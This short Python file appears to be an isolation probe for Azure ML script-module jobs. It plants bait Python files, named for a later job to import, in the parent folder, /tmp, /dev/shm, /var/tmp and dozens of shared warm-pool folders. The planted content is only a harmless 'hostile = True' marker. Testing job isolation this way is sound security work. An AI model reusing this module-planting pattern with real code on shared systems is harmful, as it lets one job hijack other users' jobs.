"""Leaves files where a next job may look for its own: beside its folder, in folders of the same names, in /tmp."""

import os

from attack import BAIT, attack, every, job_folder


def leave(place):
    os.makedirs(place, exist_ok=True)
    path = os.path.join(place, BAIT["left_name"] + ".py")
    with open(path, "w") as stream:
        stream.write("hostile = True\n")
    return ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    up = os.path.dirname(job_folder())
    places = [up, os.path.join(up, "packages"), "/tmp", "/dev/shm", "/var/tmp", BAIT["warm_folder"], BAIT["runs"]]
    places += [os.path.join(BAIT["warm_folder"], f"spare{number}", "work") for number in range(1, 60)]
    return every(leave, places)
